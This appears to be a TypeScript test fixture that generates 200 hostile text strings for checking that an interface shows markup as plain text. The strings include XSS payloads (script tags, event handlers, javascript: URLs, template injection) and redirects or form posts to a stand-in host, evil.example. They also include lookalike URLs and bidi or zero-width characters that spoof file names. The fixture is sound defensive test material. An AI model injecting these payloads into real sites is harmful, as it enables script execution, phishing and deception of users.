/** Marks and markup that must reach the reader as text. `{}` is where a number goes that makes each text its own. */
const PIECES: readonly string[] = [
  '<script>window.pwned={}</script>',
  '<img src=x onerror="window.pwned={}">',
  '<svg onload=window.pwned={}>',
  '<svg><script>window.pwned={}</script></svg>',
  '<iframe srcdoc="<script>parent.pwned={}</script>"></iframe>',
  '<a href="javascript:window.pwned={}">klik</a>',
  'javascript:window.pwned={}//',
  'JaVaScRiPt:window.pwned={}',
  'java\tscript:window.pwned={}',
  'data:text/html,<script>window.pwned={}</script>',
  'vbscript:msgbox({})',
  '"><b onmouseover=window.pwned={}>tebal</b>',
  "'><i onfocus=window.pwned={} autofocus>",
  '</li></ul><form action="https://evil.example/{}"><input name=x>',
  '</textarea><script>window.pwned={}</script>',
  '<!--<script>window.pwned={}</script>-->',
  '<![CDATA[<script>window.pwned={}</script>]]>',
  '<math><mtext><script>window.pwned={}</script></mtext></math>',
  '<object data="https://evil.example/{}"></object>',
  '<embed src="https://evil.example/{}">',
  '<link rel=stylesheet href="https://evil.example/{}.css">',
  '<style>*{display:none}</style>{}',
  '<meta http-equiv=refresh content="0;url=https://evil.example/{}">',
  '<base href="https://evil.example/{}/">',
  '<template><script>window.pwned={}</script></template>',
  '{{constructor.constructor("window.pwned={}")()}}',
  '${window.pwned={}}',
  '{label.TITLE} {}',
  '&lt;script&gt;window.pwned={}&lt;/script&gt;',
  '&#60;script&#62;window.pwned={}',
  '%3Cscript%3Ewindow.pwned={}%3C/script%3E',
  '\\u003cscript\\u003ewindow.pwned={}',
  '<c-bird-message onclick=window.pwned={}></c-bird-message>',
  '\u202Egnp.{}exe',
  'tagihan\u202Efdp.{}exe',
  '\u2067\u202Ekanan {} kiri',
  '\u200Fmulai {} akhir\u200E',
  'tak\u200Bter\u200Clihat\u200D {}',
  'http://evil.example/{}',
  'https://evil.example@bank.example/{}'
];

const FRAMES: readonly string[] = ['{}', 'Halo {} ya', '({})', '{}\n\nbaris dua', '😀{}مرحبا'];

/** 200 texts, each different: script, markup, links that are none, bidi marks. */
export const HOSTILE_TEXTS: readonly string[] = FRAMES.flatMap((frame, row) =>
  PIECES.map((piece, column) =>
    frame.replace('{}', () => piece.replaceAll('{}', String(row * PIECES.length + column)))
  )
);
